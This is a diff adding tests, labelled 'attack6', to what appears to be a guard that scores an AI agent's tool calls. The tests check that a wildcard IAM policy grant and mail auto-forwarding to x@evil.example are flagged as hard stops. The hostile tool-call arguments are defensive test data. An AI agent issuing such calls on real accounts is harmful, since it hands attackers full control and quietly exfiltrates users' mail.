@@ -104,3 +104,23 @@ describe("attack6: credential helpers in other spellings", () => {
     }
   });
 });
+
+describe("attack6: tool calls in other argument shapes", () => {
+  // AWS's IAM tools take the policy document as an object as often as a string; ["*"] is "*".
+  it("a policy that allows every action is a grant of full control, as an object or with [\"*\"]", () => {
+    const statement = { Effect: "Allow", Action: "*", Resource: "*" };
+    expect(tool("put_role_policy", { RoleName: "r", PolicyName: "p", PolicyDocument: { Version: "2012-10-17", Statement: [statement] } }).tier).toBe("hard-stop");
+    expect(tool("put_role_policy", { RoleName: "r", PolicyName: "p", PolicyDocument: { Statement: [{ ...statement, Action: ["*"] }] } }).tier).toBe("hard-stop");
+    expect(tool("put_role_policy", { RoleName: "r", PolicyName: "p", PolicyDocument: JSON.stringify({ Statement: [{ ...statement, Action: ["*"] }] }) }).tier).toBe("hard-stop");
+    // A statement that denies everything grants nothing.
+    expect(tool("put_role_policy", { RoleName: "r", PolicyName: "p", PolicyDocument: { Statement: [{ ...statement, Effect: "Deny" }] } }).rules.map((r) => r.id)).not.toContain("tool.grant-admin");
+  });
+
+  // Microsoft Graph's message rule forwards as an attachment too; Gmail's auto-forwarding names the
+  // address as emailAddress.
+  it("mail forwarded outside from now on, in Graph's and Gmail's shapes", () => {
+    expect(tool("create_message_rule", { displayName: "r", actions: { forwardAsAttachmentTo: [{ emailAddress: { address: "x@evil.example" } }] } }).tier).toBe("hard-stop");
+    expect(tool("update_auto_forwarding", { emailAddress: "x@evil.example", enabled: true, disposition: "trash" }).tier).toBe("hard-stop");
+    expect(tool("update_auto_forwarding", { emailAddress: "x@evil.example", enabled: false }).rules.map((r) => r.id)).not.toContain("tool.forward-outside");
+  });
+});
